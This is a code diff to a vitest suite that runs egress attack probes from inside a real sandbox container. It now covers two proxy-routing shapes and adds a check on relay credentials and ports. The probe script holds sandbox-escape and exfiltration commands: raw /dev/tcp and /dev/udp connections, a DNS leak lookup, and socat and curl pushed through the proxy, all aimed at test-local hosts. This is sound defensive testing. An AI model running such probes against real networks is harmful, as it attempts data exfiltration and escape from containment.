@@ -3,19 +3,22 @@ import { createSocket, type Socket as UdpSocket } from 'node:dgram';
 import type { AddressInfo } from 'node:net';
 import { networkInterfaces } from 'node:os';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createHarness, runCommand, sandboxSkipReason, type CommandRun, type Harness } from './harness';
+import type { EgressShape } from '../../../src-main/services/sandbox';
+import { createHarness, EGRESS_SHAPES, runCommand, sandboxSkipReason, type CommandRun, type Harness } from './harness';
 
 /**
- * Attack tests from inside a real container (issue 5, "Egress allowlist"). The "outside" is made
- * by the test on this machine only: an HTTP server on all of the host's addresses (standing in
- * for an allowed site and for services on the host), a UDP listener, and names that the proxy's
- * resolver maps to them. Every probe but the two allowed ones must fail, and the host servers must
- * see nothing else.
+ * Attack tests from inside a real container (issue 5, "Egress allowlist"), once for each way the
+ * container reaches its proxy (egress-route.ts: no network + a mounted socket, or a per-run
+ * internal network + a relay container). The "outside" is made by the test on this machine only:
+ * an HTTP server on all of the host's addresses (standing in for an allowed site and for services
+ * on the host), a UDP listener, and names that the proxy's resolver maps to them. Every probe but
+ * the two allowed ones must fail, and the host servers must see nothing else.
  */
 
 const skip = await sandboxSkipReason();
 if (skip) console.warn(`[sandbox] skipping egress attack tests: ${skip}`);
 
+function attackSuite(shape: EgressShape) {
 let harness: Harness;
 let server: Server;
 let udp: UdpSocket;
@@ -31,7 +34,7 @@ function hostAddress(): string {
   return '127.0.0.1';
 }
 
-describe.skipIf(skip)('egress from a real sandbox container', () => {
+describe.skipIf(skip)(`egress from a real sandbox container (${shape} shape)`, () => {
   beforeAll(async () => {
     server = createServer((req, res) => {
       hits.push(`${req.method} ${req.headers.host} ${req.url}`);
@@ -46,6 +49,7 @@ describe.skipIf(skip)('egress from a real sandbox container', () => {
     const udpPort = udp.address().port;
 
     harness = await createHarness({
+      egressShape: shape,
       // The proxy's resolver: the allowed name and a wildcard-matched name both point at this
       // machine's loopback; any other name is recorded (a leak would show here) and unknown.
       lookup: async (name) => {
@@ -81,8 +85,12 @@ t dns_lookup getent hosts allowed.test
 t dns_leak getent hosts secret-data.leak.example
 t raw_tcp bash -c "exec 3<>/dev/tcp/$H/$P"
 t raw_udp bash -c "echo leaked > /dev/udp/$H/$U"
-t has_route sh -c 'test "$(wc -l < /proc/net/route)" -gt 1 || test -n "$(grep -v "^00000000000000000000000000000001\\|^fe80\\|^ff" /proc/net/ipv6_route 2>/dev/null | grep -v " lo$")"'
-t non_http_through_relay sh -c "printf 'SSH-2.0-probe\\r\\n\\r\\n' | socat -t 3 - TCP:127.0.0.1:3128 | grep -q ' 200 '"
+t has_route sh -c 'awk "NR > 1 && \\$2 == \\"00000000\\"" /proc/net/route | grep -q . || grep "^00000000000000000000000000000000 00" /proc/net/ipv6_route 2>/dev/null | grep -qv " lo$"'
+t non_http_through_relay sh -c "printf 'SSH-2.0-probe\\r\\n\\r\\n' | socat -t 3 - TCP:$COSPEC_PROXY_ADDR | grep -q ' 200 '"
+if [ "$COSPEC_EGRESS" = network ]; then
+  t proxy_without_credentials curl -sS -f -m 10 -x "http://$COSPEC_PROXY_ADDR" http://allowed.test:$P/hello
+  t relay_other_port bash -c "exec 3<>/dev/tcp/\${COSPEC_PROXY_ADDR%:*}/22"
+fi
 echo END
 `;
     const timer = setTimeout(() => console.warn(`[sandbox] the probe container is still running after 60 s; sandbox log:\n${harness.logs.join('\n')}`), 60_000);
@@ -153,6 +161,13 @@ echo END
     expect(probe('non_http_through_relay').ok).toBe(false);
   });
 
+  it.runIf(shape === 'network')('on the run’s network, reaches the relay only on the proxy port and only with the run’s credentials', () => {
+    const r = probe('proxy_without_credentials');
+    expect(r.ok, r.output).toBe(false);
+    expect(r.output).toMatch(/407/);
+    expect(probe('relay_other_port').ok).toBe(false);
+  });
+
   it('lets only the two allowed requests reach the host servers, and no UDP at all', () => {
     expect(hits).toEqual([`GET allowed.test:${(server.address() as AddressInfo).port} /hello`, `GET allowed.test:${(server.address() as AddressInfo).port} /hello`]);
     expect(udpHits).toEqual([]);
@@ -168,3 +183,6 @@ echo END
     expect(egress.filter((e) => e.verdict === 'allowed').map((e) => e.destination)).toEqual([`allowed.test:${port}`]);
   });
 });
+}
+
+for (const shape of EGRESS_SHAPES) attackSuite(shape);
